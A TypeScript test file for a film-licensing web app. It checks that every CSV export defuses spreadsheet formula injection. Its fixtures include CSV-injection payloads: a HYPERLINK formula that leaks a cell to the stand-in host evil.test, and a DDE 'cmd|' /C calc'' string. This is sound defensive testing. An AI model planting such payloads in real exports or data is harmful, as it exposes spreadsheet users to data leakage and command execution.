/**
 * Issue 11, point 9: every CSV export goes through the one writer (lib/files/csv.ts toCsv) and
 * neutralises cells a spreadsheet would run as a formula (= + - @ tab CR), creator statements
 * included. Each export runs here with formula-like names in every name it prints.
 */
import { NextRequest } from "next/server";
import { beforeEach, describe, expect, it } from "vitest";
import { GET as exportAvails } from "@/app/api/v1/avails/export/route";
import { GET as exportGrants } from "@/app/api/v1/deals/[id]/grants/export/route";
import { db } from "@/lib/db/client";
import { parseCsv } from "@/lib/files/table-parse";
import { type ApiResponse, BASE_URL, callRoute, registerViaApi, sessionHeaders } from "../support/api";
import { resetDb } from "../support/db";
import { disbursedAdvance, facilityApi, facilityWorld } from "./facility-fixtures";
import { outcomesApi } from "./outcomes-fixtures";
import { DEFAULT_TERMS, signedWorld, statementsApi, usd } from "./statements-fixtures";

const FORMULAS = {
  title: '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
  studio: "@SUM(1+1)*cmd|' /C calc'!A0",
  partner: "+1+cmd",
  director: "-2+3+cmd",
  writer: "@A1 cmd",
};
const DANGEROUS = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

/** Every cell of the CSV: none may start like a formula unless it is a plain number. */
function expectNeutral(what: string, res: ApiResponse): string[][] {
  expect(res.status, `${what}: ${res.text}`).toBe(200);
  expect(res.contentType, what).toMatch(/^text\/csv/);
  // Response.text() drops the one BOM the writer puts first: a second one would show here.
  expect(res.text.startsWith("\uFEFF"), what).toBe(false);
  // Untrimmed cells: parseCsv trims, so read them with the writer's quoting but keep leading tabs.
  const rows = parseCsv(res.text.replace(/^\uFEFF/, "").replaceAll("\t", "\u0001")).map((r) =>
    r.cells.map((c) => c.replaceAll("\u0001", "\t")),
  );
  for (const row of rows)
    for (const cell of row) if (!NUMBER.test(cell)) expect(cell, `${what}: ${JSON.stringify(cell)}`).not.toMatch(DANGEROUS);
  return rows;
}

const containsGuarded = (rows: string[][], text: string) => rows.some((r) => r.includes(`'${text}`));

beforeEach(async () => {
  await resetDb();
});

describe("every CSV export with formula-like names", () => {
  it("creator statements, statement template, outcomes (studio and platform), deal grants and avails", async () => {
    const w = await signedWorld({
      ...DEFAULT_TERMS,
      participants: [
        { name: FORMULAS.director, role: FORMULAS.title, share: "2" },
        { name: FORMULAS.writer, role: "Writer", share: "1" },
      ],
    });
    await db.title.update({ where: { id: w.titleId }, data: { originalTitle: FORMULAS.title } });
    await db.organization.update({ where: { id: w.studio.orgId }, data: { name: FORMULAS.studio } });
    await db.organization.update({ where: { id: w.partner.orgId }, data: { name: FORMULAS.partner } });
    const receipt = await statementsApi.receipt(w.studio.headers, w.dealId, {
      kind: "MG_INSTALMENT",
      amount: usd("400.00"),
      receivedOn: "2027-01-15",
      instalmentIndex: 0,
    });
    expect(receipt.status, receipt.text).toBe(201);

    const creators = expectNeutral(
      "creator statements",
      await statementsApi.creatorStatements(w.studio.headers, w.dealId, { period: "quarter", format: "csv" }),
    );
    // The attack's cell: quoted only before, now defused with an apostrophe.
    expect(containsGuarded(creators, FORMULAS.director)).toBe(true);
    expect(containsGuarded(creators, FORMULAS.title)).toBe(true);
    expect(containsGuarded(creators, FORMULAS.writer)).toBe(true);

    expectNeutral("statement template", await statementsApi.template(w.studio.headers, w.dealId));

    const range = { from: "2027-01-01", to: "2027-12-31", currency: "USD" };
    for (const breakdown of ["series", "byCountry", "byMediaRight", "byRevenueType", "byGenre", "byTitle"]) {
      const res = await outcomesApi.export(w.studio.headers, { ...range, breakdown });
      if (res.status === 422) continue; // a breakdown this version does not offer
      const rows = expectNeutral(`outcomes ${breakdown}`, res);
      if (breakdown === "byTitle") expect(containsGuarded(rows, FORMULAS.title)).toBe(true);
    }

    const operator = await registerViaApi({ organization: { name: "Ops personal", kind: "PARTNER", homeCountry: "SG" } });
    const platform = await db.organization.create({
      data: { name: "Ops", kind: "PLATFORM", homeCountry: "SG", memberships: { create: { userId: operator.userId, role: "ADMIN" } } },
    });
    const platformHeaders = await sessionHeaders(operator.userId, platform.id);
    for (const table of ["byHomeCountry", "studios"]) {
      const rows = expectNeutral(`platform ${table}`, await outcomesApi.platformExport(platformHeaders, { ...range, table }));
      if (table === "studios") expect(containsGuarded(rows, FORMULAS.studio)).toBe(true);
    }

    const grants = await exportGrants(
      new NextRequest(`${BASE_URL}/api/v1/deals/${w.dealId}/grants/export?format=csv`, { headers: w.studio.headers }),
      { params: Promise.resolve({ id: w.dealId }) },
    );
    const grantsText = await grants.text();
    const grantRows = expectNeutral("deal grants (EMA)", {
      status: grants.status,
      headers: grants.headers,
      contentType: grants.headers.get("content-type") ?? "",
      body: null,
      text: grantsText,
    });
    expect(containsGuarded(grantRows, FORMULAS.title)).toBe(true);

    const availsQuery = {
      titleId: w.otherTitleId,
      territories: "TH",
      mediaRights: "SVOD",
      start: "2027-01-01",
      end: "2027-12-31",
      exclusive: "true",
      format: "csv",
    };
    await db.title
      .update({ where: { id: w.otherTitleId }, data: { originalTitle: FORMULAS.title, visibility: "LISTED" } })
      .catch(() => null);
    expectNeutral("avails", await callRoute(exportAvails, "/api/v1/avails/export", { headers: w.studio.headers, query: availsQuery }));
  });

  it("the facility portfolio", async () => {
    const w = await facilityWorld();
    await db.organization.update({ where: { id: w.studio.orgId }, data: { name: FORMULAS.studio } });
    await db.organization.update({ where: { id: w.partner.orgId }, data: { name: FORMULAS.partner } });
    await db.title.update({ where: { id: w.titleId }, data: { originalTitle: FORMULAS.title } });
    await disbursedAdvance(w);
    const rows = expectNeutral("portfolio", await facilityApi.portfolio(w.underwriter.headers, { format: "csv" }));
    expect(containsGuarded(rows, FORMULAS.studio)).toBe(true);
  });
});
